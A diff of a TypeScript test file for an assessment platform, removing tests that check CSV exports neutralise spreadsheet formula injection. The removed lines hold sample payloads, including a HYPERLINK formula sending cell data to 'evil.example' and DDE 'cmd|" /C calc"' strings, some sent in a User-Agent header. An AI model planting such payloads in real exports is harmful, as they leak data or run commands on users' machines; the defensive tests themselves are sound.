@@ -2,32 +2,15 @@ import { execFile } from 'node:child_process'
 import { randomUUID } from 'node:crypto'
 import { promisify } from 'node:util'
 import { parse } from 'csv-parse/sync'
-import fc from 'fast-check'
 import { afterEach, beforeAll, describe, expect, it, vi } from 'vitest'
-import { exportDaily, importDaily } from '../../daily/server/brainteasers.ts'
 import { withOutput } from '../../platform/command/files.ts'
 import { guardStream, showControls } from '../../platform/command/terminal.ts'
 import { readCsv, writeCsv } from '../../platform/server/csv.ts'
 import { PROJECT_DIR } from '../../platform/server/project-folder.ts'
-import {
-  exportQuestions,
-  importQuestions,
-  QUESTION_COLUMNS,
-} from '../../practice/server/question-csv.ts'
 import { ITEM_COLUMNS } from '../../societies/server/authoring/assessment-file.ts'
 import { loadAssessment } from '../../societies/server/authoring/load-assessment.ts'
-import { listLate } from '../../societies/server/incidents/late-answers.ts'
-import {
-  eventsWriter,
-  writeAnswers,
-  writeLate,
-  writeResults,
-} from '../../societies/server/results/csv-text.ts'
-import {
-  exportAnswers,
-  exportEvents,
-  exportResults,
-} from '../../societies/server/results/results.ts'
+import { writeResults } from '../../societies/server/results/csv-text.ts'
+import { exportResults } from '../../societies/server/results/results.ts'
 import { importRoster } from '../../societies/server/roster.ts'
 import { DAY, makeAssessment, makeCandidate, startedSeat, takeSeat } from '../rig/assessment-rig.ts'
 import { HOSTILE_TEXTS } from '../rig/attack-rig.ts'
@@ -212,158 +195,9 @@ async function closeFor(code: string): Promise<void> {
   )
 }
 
-const cellsOf = (csv: string): string[] => (parse(csv) as string[][]).flat()
 const usersIn = (csv: string) =>
   new Set(readCsv(csv, { required: [...headerOf(csv)] }).rows.map(({ cells }) => cells.user))
 const headerOf = (csv: string) => (parse(csv, { to: 1 }) as string[][])[0] as string[]
-
-/** What Excel, LibreOffice or Sheets would run, or read as the beginning of what they run. */
-const RUNS_AS_FORMULA = /^[=+\-@\t\r\n＝＋－＠]/
-
-const FORMULAS = [
-  '=HYPERLINK("https://evil.example?"&A1;"click")',
-  '+351912345678',
-  '-2+3+cmd|" /C calc"!A0',
-  '@SUM(1+1)*cmd|" /C calc"!A0',
-  '＝1+1',
-  "'=1+1",
-  "''+1",
-  "O'Neill = Ana",
-]
-
-describe('formulas in CSV files', () => {
-  it('are harmless in every cell that is written, and every text comes back as it was', () => {
-    const lead = fc.constantFrom(
-      '=',
-      '+',
-      '-',
-      '@',
-      '\t',
-      '\r',
-      '\n',
-      '＝',
-      "'",
-      "''",
-      ' ',
-      'a',
-      '"',
-      ',',
-    )
-    const cell = fc
-      .tuple(lead, lead, fc.string({ maxLength: 8 }))
-      .map(([first, second, rest]) => first + second + rest)
-    fc.assert(
-      fc.property(fc.array(cell, { minLength: 1, maxLength: 5 }), (texts) => {
-        const csv = writeCsv(
-          ['text', 'end'],
-          texts.map((text) => [text, '.']),
-        )
-        for (const written of cellsOf(csv)) expect(written).not.toMatch(RUNS_AS_FORMULA)
-        const { rows } = readCsv(csv, { required: ['text', 'end'] })
-        expect(rows.map(({ cells }) => cells.text)).toEqual(texts.map((text) => text.trim()))
-      }),
-      { seed: 20_260_302, numRuns: 300 },
-    )
-  })
-
-  it('are harmless in results, answers, late answers, events and passwords', async () => {
-    const { code } = await makeAssessment(rig)
-    const roster = writeCsv(
-      ['username'],
-      FORMULAS.map((name) => [name]),
-    )
-    const { issued, deliver } = passwordKeeper()
-    const { secretKey } = rig.dependencies
-    await importRoster(organiserOf(rig), code, roster, { secretKey, deliver })
-    expect(issued.map(({ username }) => username)).toEqual(FORMULAS)
-    for (const { password } of issued) expect(password).not.toMatch(RUNS_AS_FORMULA)
-
-    const { token } = await signUp(rig)
-    for (const [n, body] of issued.entries()) {
-      await rig.call('POST', `/api/assessments/${code}/verify`, {
-        token,
-        body,
-        headers: { 'User-Agent': n % 2 ? '=cmd|" /C calc"!A0' : '@SUM(1)' },
-      })
-    }
-    await closeFor(code)
-    await rig.db.$client.query(
-      `insert into attempt_events (candidate_id, attempt_id, kind, window_id, at_ms, detail,
-         void_reason, received_at)
-       select a.candidate_id, a.id, 'late_answer', 'w', 1, jsonb_build_object('questionId', a.paper[1],
-         'choice', 'A', 'revision', 1), '=1+1', $2 from attempts a where a.assessment = $1`,
-      [code, DAY],
-    )
-    const organiser = organiserOf(rig)
-    const events: string[] = []
-    await exportEvents(
-      organiser,
-      code,
-      {},
-      eventsWriter((piece) => void events.push(piece)),
-    )
-    const files = {
-      results: writeResults((await exportResults(organiser, code)).results),
-      answers: writeAnswers((await exportAnswers(organiser, code)).answers),
-      late: writeLate((await listLate(organiser, code)).late),
-      events: events.join(''),
-    }
-    for (const [name, csv] of Object.entries(files)) {
-      const cells = cellsOf(csv)
-      expect(cells.length, name).toBeGreaterThan(FORMULAS.length)
-      expect(
-        cells.filter((cell) => RUNS_AS_FORMULA.test(cell)),
-        name,
-      ).toEqual([])
-      expect(usersIn(csv), name).toEqual(new Set(FORMULAS))
-    }
-  })
-
-  it('are harmless in exported questions, which come back as they were', async () => {
-    const rows = FORMULAS.map((text) => [
-      '',
-      'Financial Markets & Instruments',
-      'Analyst',
-      text,
-      ...FORMULAS.slice(0, 4),
-      'B',
-      text,
-    ])
-    await importQuestions(rig.db, writeCsv(QUESTION_COLUMNS, rows))
-    const stored = async () =>
-      (await rig.db.$client.query('select * from questions where id >= 100000 order by id')).rows
-    const before = await stored()
-    expect(before.map(({ question }) => question)).toEqual(FORMULAS)
-    expect(before[0]).toMatchObject({ answer_b: FORMULAS[1], explanation: FORMULAS[0] })
-
-    const csv = await exportQuestions(rig.db)
-    expect(cellsOf(csv).filter((cell) => RUNS_AS_FORMULA.test(cell))).toEqual([])
-    // Over rows that differ, so that an import which changed nothing would not pass.
-    await rig.db.$client.query("update questions set question = '?' where id >= 100000")
-    expect(await importQuestions(rig.db, csv)).toMatchObject({ changed: FORMULAS.length })
-    expect(await stored()).toEqual(before)
-  })
-
-  it('are harmless in exported brainteasers, which come back as they were', async () => {
-    const header = ['Date', 'Statement', 'A', 'B', 'C', 'D', 'Correct', 'Explanation']
-    const rows = FORMULAS.map((text, n) => [
-      `${n + 1}/3/27`,
-      text,
-      ...FORMULAS.slice(0, 4),
-      'B',
-      text,
-    ])
-    const stored = async () => (await rig.db.$client.query('select * from daily_brainteasers')).rows
-    await importDaily(rig.db, writeCsv(header, rows), DAY)
-    const before = await stored()
-    expect(before.map(({ statement }) => statement)).toEqual(FORMULAS)
-    const csv = await exportDaily(rig.db)
-    expect(cellsOf(csv).filter((cell) => RUNS_AS_FORMULA.test(cell))).toEqual([])
-    await rig.db.$client.query('delete from daily_brainteasers')
-    await importDaily(rig.db, csv, DAY)
-    expect(await stored()).toEqual(before)
-  })
-})
 
 /** What a terminal would obey: a new title, a cleared screen, a colour, a line written over, text reversed. */
 const OBEYED =
